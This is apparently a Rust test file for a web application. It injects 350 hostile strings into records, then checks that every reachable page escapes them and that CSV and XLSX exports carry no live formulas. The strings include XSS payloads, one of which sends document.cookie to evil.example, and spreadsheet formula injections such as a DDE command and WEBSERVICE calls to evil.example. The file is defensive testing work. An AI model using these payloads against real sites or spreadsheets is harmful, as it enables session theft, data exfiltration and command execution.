//! Text is text: scripts and formulas that people type come out as the letters that they are, on every
//! page and in every export.

use std::collections::{BTreeMap, BTreeSet, VecDeque};
use std::fmt::Write as _;
use std::io::{Cursor, Read};

use moushi::app::{login, province};
use moushi_core::align::coverage;
use moushi_core::model::{RowId, Task};
use moushi_core::report::ledger_book;
use moushi_core::text::Lang;
use moushi_files::write::{csv, xlsx};
use serde_json::json;

use crate::client::{Client, Reply};
use crate::world::houses;

const FRAMES: &[(&str, &str)] = &[
    ("<script>", "</script>"),
    ("<SCRIPT>", "</SCRIPT>"),
    ("</title><script>", "</script>"),
    ("</textarea><script>", "</script>"),
    ("--><script>", "</script>"),
    ("]]><script>", "</script>"),
    ("'\"><script>", "</script>"),
    ("<scr<script>ipt>", "</scr</script>ipt>"),
    ("<img src=x onerror=\"", "\">"),
    ("<img src=x onerror='", "'>"),
    ("<svg/onload=", ">"),
    ("<svg><script>", "</script></svg>"),
    ("<body onload=", ">"),
    ("<iframe srcdoc=\"<script>", "</script>\"></iframe>"),
    ("<iframe src=\"javascript:", "\"></iframe>"),
    ("<a href=\"javascript:", "\">x</a>"),
    ("<details open ontoggle=", ">"),
    ("<input autofocus onfocus=", ">"),
    ("<math><mtext><style><img src onerror=", "></style></mtext></math>"),
    ("<template><script>", "</script></template>"),
    ("\" onmouseover=\"", "\" x=\""),
    ("' onmouseover='", "' x='"),
    ("\"><b onclick=\"", "\">"),
    ("<meta http-equiv=refresh content=\"0;url=javascript:", "\">"),
    ("<object data=\"javascript:", "\"></object>"),
    ("<style>@import 'javascript:", "';</style>"),
    ("<form action=\"javascript:", "\"><button>x</button></form>"),
    ("<base href=\"javascript:", "//\">"),
    ("<link rel=stylesheet href=\"javascript:", "\">"),
    ("<x contenteditable onblur=", ">"),
];
const CORES: &[&str] = &[
    "alert(1)",
    "alert`1`",
    "top['al'+'ert'](1)",
    "fetch('//evil.example/'+document.cookie)",
    "eval(atob('YWxlcnQoMSk='))",
    "location='//evil.example'",
    "import('//evil.example/x.js')",
    "new Function('alert(1)')()",
    "&#97;lert(1)",
    "\\u0061lert(1)",
];
const FORMULAS: &[&str] = &[
    "=1+1",
    "=cmd|'/C calc'!A0",
    "+1+1",
    "-1+1",
    "@SUM(A1:A9)",
    "=HYPERLINK(\"http://evil.example\",\"x\")",
    "=IMPORTXML(\"http://evil.example\",\"//a\")",
    "=WEBSERVICE(\"http://evil.example\")",
    "\t=1+1",
    "\r=1+1",
];

/// 300 scripts.
fn scripts() -> Vec<String> {
    let all = FRAMES
        .iter()
        .flat_map(|(open, close)| CORES.iter().map(move |core| format!("{open}{core}{close}")));
    all.collect()
}

/// 50 formulas.
fn formulas() -> Vec<String> {
    let ends = ["", " ", "，任务", ",x", "\"y\""];
    FORMULAS.iter().flat_map(|one| ends.iter().map(move |end| format!("{one}{end}"))).collect()
}

/// Every page that a signed-in person gets to by following links.
fn pages(client: &Client, cookie: &str) -> BTreeMap<String, Reply> {
    let mut seen = BTreeSet::from(["/".to_owned()]);
    let mut open = VecDeque::from(["/".to_owned()]);
    let mut pages = BTreeMap::new();
    while let Some(path) = open.pop_front() {
        if pages.len() > 60 {
            break;
        }
        let reply = client.send("GET", &path, &[("Cookie", cookie)], b"");
        let reply = reply.unwrap_or_else(|error| panic!("{path}: {error}"));
        if reply.head.contains("text/html") {
            for link in reply.body.split("href=\"").skip(1) {
                let link = link.split('"').next().unwrap_or_default().replace("&amp;", "&");
                let link = link.split('#').next().unwrap_or_default().to_owned();
                // Files to be downloaded are looked at by the test of exports.
                let file = link.contains("/export/") || link.contains("/packs/");
                let own = link.starts_with('/')
                    && !file
                    && !link.contains(".xlsx")
                    && !link.contains(".docx")
                    && !link.starts_with("/assets")
                    && link != "/logout";
                if own && seen.insert(link.clone()) {
                    open.push_back(link);
                }
            }
            pages.insert(path, reply);
        }
    }
    pages
}

#[tokio::test(flavor = "multi_thread")]
async fn scripts_and_formulas_are_shown_as_letters() {
    let world = houses::settled().await;
    let department = houses::houses(&world).await.swap_remove(0);
    let hostile: Vec<String> = scripts().into_iter().chain(formulas()).collect();
    assert_eq!(hostile.len(), 350);
    let mut sql = String::new();
    for (place, words) in hostile.iter().enumerate() {
        let quoted = words.replace('\'', "''");
        let body = houses::task("d", &format!("T{:03}", place + 10), "条目");
        sql.push_str(&houses::entry(&department, "t", place + 10, &body));
        let id = format!("t-d-{}", place + 10);
        let mut body = body;
        body["row"]["words"] = json!(words);
        body["row"]["deliverable"] = json!(words);
        let body = body.to_string().replace('\'', "''");
        let _ = write!(
            sql,
            "update entry set words = '{quoted}', deliverable = '{quoted}', person = '{quoted}',
             unit = '{quoted}', body = '{body}' where id = '{id}';
             insert into document select 'x-{place}', plan_id, '{quoted}', blob, size, level, state, '{quoted}', '{quoted}', source_id, '{quoted}', added_by, added_at, version from document where id = 'f-d';\n"
        );
    }
    sql.push_str("update plan set title = '<script>alert(1)</script>' where id = 'p-d';");
    sql.push_str(
        "update org set name = '<img src=x onerror=\"alert(1)\">' where kind = 'division';",
    );
    world.execute(&sql).await;
    let session = login::sign_in(&world.door, "linlan", province::PASSWORD, "test").await;
    let cookie = format!("moushi={}", session.expect("signed in").secret);
    let client = Client { address: world.serve().await, token: String::new() };
    let pages = pages(&client, &cookie);
    assert!(pages.len() >= 2, "pages were found: {:?}", pages.keys());
    let mut shown = BTreeSet::new();
    for (path, page) in &pages {
        assert!(page.status < 500, "{path}: {}", page.status);
        harmless(path, &page.body, &hostile);
        shown.extend(hostile.iter().filter(|words| page.body.contains(&escaped(words))));
    }
    assert!(shown.len() >= 300, "only {} of the texts were shown anywhere", shown.len());
}

fn escaped(words: &str) -> String {
    words.replace('&', "&amp;").replace('<', "&lt;").replace('>', "&gt;").replace('"', "&quot;")
}

/// No text of ours is markup; every script is one of our files.
fn harmless(path: &str, page: &str, hostile: &[String]) {
    for words in hostile.iter().filter(|words| words.contains(['<', '"'])) {
        assert!(!page.contains(words.as_str()), "{path} holds {words} as it was typed");
    }
    for script in page.split("<script").skip(1) {
        let head = script.split('>').next().unwrap_or_default();
        assert!(
            head.contains("src=\"/assets/") || head.contains("application/json"),
            "{path}: {head}"
        );
    }
    for tag in page.split('<').skip(1) {
        let tag = tag.split('>').next().unwrap_or_default();
        let handler = |part: &str| part.starts_with("on") && part.contains("=\"");
        assert!(!tag.split_whitespace().any(handler), "{path}: <{tag}>");
        assert!(!tag.contains("\"javascript:"), "{path}: <{tag}>");
    }
}

#[test]
fn exports_hold_no_live_formula() {
    let mut ledger = crate::sample::ledger();
    let plain = ledger.tasks[0].clone();
    let hostile = |(place, words): (usize, String)| Task {
        id: RowId(format!("T{place:03}")),
        leader: Some(words.clone()),
        deliverable: Some(words.clone()),
        deadline_words: Some(words.clone()),
        words,
        ..plain.clone()
    };
    ledger.tasks = formulas().into_iter().enumerate().map(hostile).collect();
    let book = ledger_book(&ledger, &coverage(&ledger), &[], Lang::Zh);
    for sheet in &book.sheets {
        let text = String::from_utf8(csv::write(sheet, Lang::Zh)).expect("UTF-8");
        let live = cells(&text);
        let live: Vec<&&str> =
            live.iter().filter(|one| one.starts_with(['=', '@', '\t'])).collect();
        assert!(live.is_empty(), "{}: {live:?}", sheet.name.zh);
    }
    let bytes = xlsx::write(book).expect("a workbook");
    let mut zip = zip::ZipArchive::new(Cursor::new(bytes)).expect("an archive");
    for place in 0..zip.len() {
        let mut part = zip.by_index(place).expect("a part");
        let mut text = String::new();
        let name = part.name().expect("a name").into_owned();
        if name.ends_with(".xml") {
            part.read_to_string(&mut text).expect("UTF-8");
            assert!(!text.contains("<f>") && !text.contains("<f "), "{name}");
            assert!(!text.contains("evil.example\" TargetMode"), "{name}");
        }
    }
}

/// The cells of a CSV file, without the quote that they begin with.
fn cells(text: &str) -> Vec<&str> {
    let mut quoted = false;
    let ends = |c: char| {
        quoted ^= c == '"';
        !quoted && matches!(c, ',' | '\n')
    };
    text.split(ends).map(|cell| cell.trim_start_matches('"')).collect()
}
